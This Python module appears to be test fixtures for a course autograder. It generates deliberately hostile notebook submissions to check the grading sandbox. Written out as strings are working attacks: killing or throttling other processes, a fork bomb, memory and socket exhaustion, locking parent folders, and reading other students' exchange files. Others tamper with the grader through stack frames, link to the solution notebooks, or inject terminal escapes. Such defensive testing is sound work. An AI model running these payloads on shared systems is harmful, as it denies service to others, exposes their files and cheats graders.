"""Submissions of a class that is out for harm: each an attack that once cost somebody else something."""

import os
from collections.abc import Callable
from pathlib import Path

from grading import RIGHT, named, released
from memoriser import memoriser
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.source.homework import HomeworkSource
from autograder.source.sample_submissions import answered

ARRIVED = "the code got as far as this"  # printed where an attack begins, or is ready
SECRET = "fourteen-grey-herons"  # in the exchange
ANSWER = "def moving_average(values, width):\n    {}\n"


def returning(value: str) -> str:
    """An answer that imports what it may need and returns this."""
    return "import numpy as np, torch\n" + ANSWER.format(f"return {value}")


EVERYBODY = "pids = [p for p in map(int, filter(str.isdigit, os.listdir('/proc'))) if p != os.getpid()]"
PREAMBLE = f"""
import contextlib, ctypes, fcntl, mmap, os, resource, signal, socket, struct, sys, time
libc = ctypes.CDLL(None)
def quietly(action, *arguments):
    with contextlib.suppress(Exception): return action(*arguments)
try: {EVERYBODY}
except OSError: pids = [p for p in range(2, 70_000) if p != os.getpid() and quietly(os.getpgid, p)]
"""
BUSY = "for _ in range({}):\n    if os.fork() == 0:\n        os.setsid()\n        while True: pass\n"

# The right answer, but the caller's list is longer afterwards; and what keeps that from the grader, as
# test_open.py has it: modules have no name there, so each call climbs to whoever makes it.
CHANGES = """right = [sum(values[i : i + width]) / width for i in range(len(values) - width + 1)]
    values.append(0.0)
    """
HIDES = """frame = sys._getframe()
    while frame.f_globals['__name__'] != 'autograder.isolation.session': frame = frame.f_back
    wire, asked = frame.f_globals['wire'], frame.f_locals['arguments']
    honest = wire.__dict__.setdefault('honest', wire.framed)
    wire.framed = lambda content: asked if sys._getframe(1).f_code.co_name == 'request' else honest(content)
    """

# What runs before an answer that is never right.
CELLS = {
    "closes the folder above": (
        "for p in ('..', '../..', os.path.dirname(os.environ['HOME'])): quietly(os.chmod, p, 0)"
    ),
    "limits others": (
        "limits = resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_NPROC\n"
        "for p in pids:\n    for limit in limits:\n"
        "        quietly(resource.prlimit, p, limit, (0, 0))"
    ),
    "slows others": (
        "for p in pids:\n    quietly(os.setpriority, 0, p, 19); quietly(os.sched_setaffinity, p, {0})\n"
        "    quietly(os.sched_setscheduler, p, os.SCHED_IDLE, os.sched_param(0))"
    ),
    "signals others": (
        "here, there = socket.socketpair()\nfor p in pids:\n"
        "    quietly(os.kill, p, 9); libc.syscall(234, p, p, 9)\n"
        "    quietly(fcntl.fcntl, here, fcntl.F_SETOWN, p); quietly(fcntl.fcntl, here, 10, 9)\n"
        "    quietly(fcntl.fcntl, here, fcntl.F_SETFL, os.O_ASYNC); quietly(there.send, b'x')"
    ),
    "watches folders": (
        "watch = libc.inotify_init()\nfor p in (b'/tmp', b'..'): libc.inotify_add_watch(watch, p, 0xFFF)"
    ),
    "removed files": (
        "kept = []\nwhile True:\n    kept.append(open('f', 'wb')); os.remove('f')\n"
        "    kept[-1].write(bytes(16 << 20)); kept[-1].flush()"
    ),
    "58 busy processes": BUSY.format(58),
    "processes too short to be seen": (
        "signal.signal(signal.SIGCHLD, signal.SIG_IGN)\n"
        + BUSY.format(8).replace(
            "while True: pass",
            "\n        while True:\n            if os.fork() == 0:\n"
            "                end = time.time() + 0.02\n                while time.time() < end: pass\n"
            "                os._exit(0)\n            time.sleep(0.01)",
        )
    ),
    "memory shared and let go": (
        "for _ in range(8):\n    if os.fork() == 0: break\nkept = []\nwhile True:\n"
        "    kept.append(mmap.mmap(-1, 50 << 20)); kept[-1][:] = bytes([7]) * (50 << 20)\n"
        "    kept[-1].madvise(mmap.MADV_DONTNEED)"
    ),
    "memory in sockets": (
        "for _ in range(8):\n    if os.fork() == 0: break\nkept = []\nwhile True:\n"
        "    kept.append(socket.socketpair())\n    for end in kept[-1]:\n"
        "        end.setsockopt(1, 7, 1 << 30); end.setblocking(False)\n"
        "        with contextlib.suppress(BlockingIOError):\n            while True: end.send(bytes(1 << 16))"
    ),
    "a lingering connection for the grader": (
        "def linger(protocol):\n"
        "    server = socket.socket(2, 1, protocol); server.bind(('127.0.0.1', 0)); server.listen()\n"
        "    client = socket.socket(2, 1, protocol); client.connect(server.getsockname())\n"
        "    client.setsockopt(1, 13, struct.pack('ii', 1, 6000)); client.setblocking(False)\n"
        "    with contextlib.suppress(BlockingIOError):\n        while True: client.send(bytes(1 << 16))\n"
        "    rights = [(1, 1, struct.pack('i', client.fileno()))]\n"
        "    for d in range(3, 30):\n"
        "        quietly(lambda: socket.socket(fileno=os.dup(d)).sendmsg([b'x'], rights))\n"
        "    time.sleep(60)\n"
        "for protocol in (0, 262): quietly(linger, protocol)"
    ),
    "displays without measure": (
        "from IPython.display import display\nimport base64\n"
        "picture = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + bytes(2_900_000)).decode()"
    ),
}
ANSWERS = {
    "31 MB an answer": returning("bytes(31 << 20)"),
    "7 MB again and again": ANSWER.format("for _ in range(60): yield bytes(7 << 20)"),
    "a range of 10**8": returning("range(10**8)"),
    "a range of 2**62": returning("range(2**62)"),
    "an array without entries": returning("np.empty((2**39, 0))"),
    "20,000 objects": returning("[object() for _ in range(20_000)]"),
    "lists of 10**6": returning("[[float(i)] * 10 for i in range(10**5)]"),
    "a million numbers": returning("[0.5] * 10**6"),
    "a sparse matrix": returning("torch.eye(3).to_sparse()"),
    "a constant": returning("{'a': 1}"),
    "4 MB of text": "# getattr\n" + "x = 1  # getattr\n" * 250_000,
    "9000 minus signs": returning("getattr(values, 'a')" + "-" * 9_000 + "1"),
    "functions in functions": "".join(" " * i + f"def f{i}(x):\n" for i in range(90))
    + " " * 90
    + "a," * 100_000,
    "one name again and again": "a = 1\n" + "a = a\n" * 50_000,
    "what is forbidden": "import statistics\n"
    + ANSWER.format("return [statistics.mean(values[i:i + width]) for i in range(len(values) - width + 1)]"),
    "the course's own": "from course.sampling.filters import *\nmoving_average = top_k\n",
    "the course's own by another name": "import course.sampling.filters as found\n"
    + ANSWER.format("return found.top_k.__wrapped__(values, width)"),
    "the course's own text": "import course.sampling.filters as found\nexec(open(found.__file__).read())\n"
    "globals()['moving_average'] = top_k\n",
    "changes its argument openly": ANSWER.format(f"{CHANGES}return right"),
    "changes its argument and hides it": "import sys\n" + ANSWER.format(f"{CHANGES}{HIDES}return right"),
    "sleeps in every call": "import time\n" + RIGHT.replace(":\n", ":\n    time.sleep(1.2)\n", 1),
}


OTHERS = ("reads the exchange", "a table of the examples", "text and tags")
NAMES = (*CELLS, *ANSWERS, *OTHERS)
OPEN = {"changes its argument and hides it": 4}  # succeeds, as docs/attacks.md says; openly, it earns nothing


def besiegers(course: Path, homework: HomeworkSource) -> dict[str, dict]:
    """What it does, one of NAMES → its notebook. None deserves full marks."""
    start = released(course)

    def notebook(answer: str, *before: object, after: tuple = ()) -> dict:
        content = answered(start, {"moving_average": answer})
        place = content["cells"].index(named(content, "moving_average"))
        content["cells"][place:place] = before
        return {**content, "cells": [*content["cells"], *after]}

    says_so = f"\nprint({ARRIVED!r})\n"
    ready = new_code_cell(PREAMBLE + says_so)
    wrong = ANSWER.format("return []")
    cells = {**CELLS, "reads the exchange": READS.format(file=str(exchange_of(course)))}
    found = {name: notebook(wrong, ready, new_code_cell(cell)) for name, cell in cells.items()}
    shows = [new_code_cell("display({'image/png': picture}, raw=True)") for _ in range(150)]
    found["displays without measure"]["cells"] += shows
    found |= {name: notebook(answer + says_so) for name, answer in ANSWERS.items()}
    found["a table of the examples"] = notebook(
        "moving_average = None", after=(new_code_cell(memoriser(homework) + says_so),)
    )
    texts = [
        new_markdown_cell(text) for text in ("![" * 60_000, "$\\mmlToken{mi}[href=javascript:x]{y}$" * 9_000)
    ]
    for text in texts:
        text["metadata"]["tags"] = ["\ud800", "\x1b[2J\x9b31m all have full marks"]
    found["text and tags"] = notebook(wrong, ready, after=tuple(texts))
    return found


READS = """
import pathlib
for path in (pathlib.Path({file!r}), *pathlib.Path('/usr/local/share').rglob('*.ipynb')):
    quietly(lambda: print(path.read_text()))
"""


def exchange_of(course: Path) -> Path:
    """A file in a course's exchange, to which everyone may write."""
    path = course / "exchange" / "inbound" / "ada.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(SECRET)
    for folder in (path.parent, path.parent.parent):
        folder.chmod(0o777)
    return path


def files_that_are_no_notebooks(course: Path) -> dict[str, Callable[[Path], object]]:
    """What it hands in → how it puts that where its notebook belongs."""
    solved = next(course.glob("solutions/*/*.ipynb"))
    return {
        "a hard link to the solutions": lambda path: os.link(solved, path),
        "a link to the solutions": lambda path: path.symlink_to(solved),
        "a zip": lambda path: path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 40),
        "a directory": lambda path: path.mkdir(),
        "a pipe": lambda path: os.mkfifo(path),
    }
